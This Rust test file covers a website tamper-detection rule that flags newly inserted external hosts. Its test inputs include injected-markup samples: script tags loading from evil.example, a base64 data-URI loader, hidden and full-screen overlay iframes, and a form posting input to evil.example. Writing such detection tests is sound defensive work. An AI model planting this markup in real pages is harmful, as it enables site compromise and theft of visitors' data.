//! Rule `new-external-host`: strangers alarm, services wait, imitations are the worst.

use crate::harness::{Outcome, approved_with, check, compared, inserted, outcome, scanned, worst};
use hinomi::model::{Confidence::*, Severity::*};

const RULE: &str = "new-external-host";

fn told(name: &str) -> Option<(hinomi::model::Severity, hinomi::model::Confidence)> {
    worst(&compared(RULE, name), RULE)
}

#[test]
fn fixtures() {
    check(RULE);
}

#[test]
fn strangers_alarm_and_odd_places_make_it_worse() {
    assert_eq!(told("tampered-script"), Some((High, Firm)));
    assert_eq!(told("tampered-loader"), Some((High, Firm)));
    assert_eq!(told("review-frame"), Some((High, Tentative)), "it is there to be looked at");
    assert_eq!(told("tampered-overlay"), Some((High, Firm)));
    assert_eq!(told("tampered-looks"), Some((Critical, Firm)), "it chooses its victims");
    assert_eq!(told("tampered-import-map"), Some((High, Firm)));
    assert_eq!(told("tampered-between"), Some((Critical, Firm)));
    assert_eq!(told("tampered-disguised"), Some((Critical, Firm)));
    assert_eq!(told("tampered-imitation"), Some((Critical, Firm)));
}

#[test]
fn a_well_known_service_is_named_and_waits_for_a_person() {
    let found = compared(RULE, "service");
    assert_eq!(worst(&found, RULE), Some((Medium, Firm)));
    assert!(found[0].summary.ja.contains("YouTube"), "{found:#?}");
    assert_eq!(found.iter().filter(|f| f.rule != RULE).count(), 0, "the floor rule repeats it: {found:#?}");
}

#[test]
fn without_a_baseline_only_what_is_odd_in_itself_counts() {
    let alone = |name| worst(&scanned(RULE, name), RULE);
    assert_eq!(alone("baseline"), None);
    assert_eq!(alone("tampered-script"), Some((Info, Tentative)));
    assert_eq!(alone("tampered-loader"), Some((Info, Tentative)), "what it would insert");
    assert_eq!(alone("tampered-looks"), Some((Medium, Tentative)));
    assert_eq!(alone("tampered-disguised"), Some((High, Firm)));
    assert_eq!(alone("tampered-imitation"), Some((High, Firm)));
}

#[test]
fn a_public_bodys_name_is_no_excuse() {
    for (mark, script) in [
        ("<body>", "<script src=\"http://www.city.example.lg.jp/img/gif.php\"></script>"),
        ("</main>", "<script src=\"https://www.city.example.lg.jp/js/a.js\"></script>"),
        ("</main>", "<script src=\"https://www.example.go.jp/a.js\"></script>"),
    ] {
        let found = inserted(RULE, mark, script);
        assert_eq!(outcome(&found), Outcome::Alarm, "{script}: {found:#?}");
    }
    let link = inserted(RULE, "</main>", "<a href=\"https://www.city.example.lg.jp/\">隣の市</a>");
    assert_eq!(outcome(&link), Outcome::Quiet, "{link:#?}");
}

#[test]
fn where_strangers_publish_the_place_and_the_kind_decide() {
    let script = |src: &str| format!("<script src=\"{src}\"></script>");
    let npm = script("https://unpkg.com/widget@1.0.0/x.js");
    assert_eq!(outcome(&inserted(RULE, "</main>", &npm)), Outcome::Review);
    assert_eq!(outcome(&inserted(RULE, "<!DOCTYPE", &npm)), Outcome::Alarm, "before the page");
    for src in ["https://docs.google.com/x.js", "https://codepen.io/x/pen/y.js", "https://cdn.jsdelivr.net/gh/x/y/z.js"]
    {
        assert_eq!(outcome(&inserted(RULE, "</main>", &script(src))), Outcome::Alarm, "{src}");
    }
    let form = "<iframe src=\"https://docs.google.com/forms/d/e/1/viewform\" width=640 height=800></iframe>";
    assert_eq!(outcome(&inserted(RULE, "</main>", form)), Outcome::Review);
}

#[test]
fn on_shared_hosts_a_publisher_is_approved() {
    let script = |src: &str| format!("<script src=\"https://cdn.jsdelivr.net/{src}\"></script>");
    let after =
        |src: &str| outcome(&approved_with(RULE, &script("npm/swiper@8/swiper.min.js"), "</main>", &script(src)));
    assert_eq!(after("npm/swiper@8/swiper.min.css.js"), Outcome::Review);
    assert_eq!(after("gh/stranger/repo/x.js"), Outcome::Alarm);
    let frame = "<iframe src=\"https://www.google.com/maps/embed?pb=1\" width=400 height=300></iframe>";
    let found =
        approved_with(RULE, frame, "</main>", "<script src=\"https://script.google.com/macros/s/x/exec\"></script>");
    assert_eq!(outcome(&found), Outcome::Alarm, "{found:#?}");
}

#[test]
fn documents_in_frames_are_read() {
    let load = "<script src=https://evil.example/x.js></script>";
    let encoded = "PHNjcmlwdCBzcmM9aHR0cHM6Ly9ldmlsLmV4YW1wbGUveC5qcz48L3NjcmlwdD4=";
    for frame in [
        format!("<iframe srcdoc=\"{load}\"></iframe>"),
        format!("<iframe style=display:none srcdoc='{load}'></iframe>"),
        format!("<iframe src=\"data:text/html;base64,{encoded}\"></iframe>"),
        format!("<object data=\"data:text/html;charset=utf-8;base64,{encoded}\"></object>"),
        "<iframe src=\"data:text/html,%3Cscript%20src%3Dhttps://evil.example/x.js%3E%3C/script%3E\"></iframe>"
            .to_owned(),
        "<iframe srcdoc=\"<form action=https://evil.example/><input></form>\"></iframe>".to_owned(),
    ] {
        let found = inserted(RULE, "</main>", &frame);
        assert_eq!(outcome(&found), Outcome::Alarm, "{frame}: {found:#?}");
    }
    let honest = "<iframe srcdoc=\"<p>地図を読み込んでいます</p>\" width=400 height=300></iframe>";
    assert_eq!(outcome(&inserted(RULE, "</main>", honest)), Outcome::Review);
    let same = approved_with(RULE, &format!("<iframe srcdoc=\"{load}\"></iframe>"), "<main>", "<p>お知らせ</p>");
    assert_eq!(outcome(&same), Outcome::Quiet, "{same:#?}");
}

#[test]
fn a_frame_that_lies_over_the_page_is_not_there_to_be_looked_at() {
    let frame = "<style>.q{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999}</style>\
                 <iframe class=q src=\"https://evil.example/a\" height=600></iframe>";
    assert_eq!(outcome(&inserted(RULE, "<main>", frame)), Outcome::Alarm);
    let shown = "<p>動画</p><iframe src=\"https://video.example/a\" width=600 height=400></iframe><p>以上</p>";
    assert_eq!(outcome(&inserted(RULE, "</main>", shown)), Outcome::Review);
}

#[test]
fn a_site_that_the_approved_page_links_to_again_and_again_is_asked_about() {
    let links: String =
        (0..3).map(|n| format!("<a href=\"https://www.pref.example/page/{n}.html\">県の案内</a>")).collect();
    let after = |links: &str, place: &str, new: &str| outcome(&approved_with(RULE, links, place, new));
    let script = "<script src=\"https://static.pref.example/widget.js\"></script>";
    assert_eq!(after(&links, "</main>", script), Outcome::Review);
    let named = "<script>$.getScript('https://static.pref.example/widget.js')</script>";
    assert_eq!(after(&links, "</main>", named), Outcome::Review);
    assert_eq!(after("<a href=\"https://www.pref.example/\">県</a>", "</main>", script), Outcome::Alarm, "one link");
    assert_eq!(after(&links, "<!DOCTYPE", script), Outcome::Alarm, "before the page");
    let odd_port = "<script src=\"https://static.pref.example:8080/widget.js\"></script>";
    assert_eq!(after(&links, "</main>", odd_port), Outcome::Alarm);
    let unseen = "<div style=\"display:none\"><iframe src=\"https://static.pref.example/a\"></iframe></div>";
    assert_eq!(after(&links, "</main>", unseen), Outcome::Alarm, "hidden");
    let new_links = format!("{links}{script}");
    assert_eq!(after("", "</main>", &new_links), Outcome::Alarm, "links that came with it count for nothing");
}

#[test]
fn on_a_host_that_strangers_share_the_links_to_one_speak_for_no_other() {
    let links: String = (0..4).map(|n| format!("<a href=\"https://github.com/user{n}\">開発者</a>")).collect();
    let script = |path: &str| format!("<script>$.getScript('https://github.com/{path}')</script>");
    let after = |path: &str| outcome(&approved_with(RULE, &links, "</main>", &script(path)));
    assert_eq!((after(""), after("stranger/repo/x.js")), (Outcome::Review, Outcome::Alarm));
}

#[test]
fn a_host_that_many_of_the_fleet_have_approved_is_asked_about() {
    let script = "<script src=\"https://cdn.everywhere.example/w.js\"></script>";
    let found = inserted(RULE, "</main>", script);
    assert_eq!(outcome(&found), Outcome::Review, "{found:#?}");
    assert!(found.iter().any(|one| one.summary.en.contains("5 organisations")), "{found:#?}");
    let named = "<script>$.getScript('https://cdn.everywhere.example/w.js')</script>";
    assert_eq!(outcome(&inserted(RULE, "</main>", named)), Outcome::Review);
    assert_eq!(outcome(&inserted(RULE, "<!DOCTYPE", script)), Outcome::Alarm, "before the page");
    let unseen = "<div style=\"display:none\"><iframe src=\"https://cdn.everywhere.example/a\"></iframe></div>";
    assert_eq!(outcome(&inserted(RULE, "</main>", unseen)), Outcome::Alarm, "hidden");
}
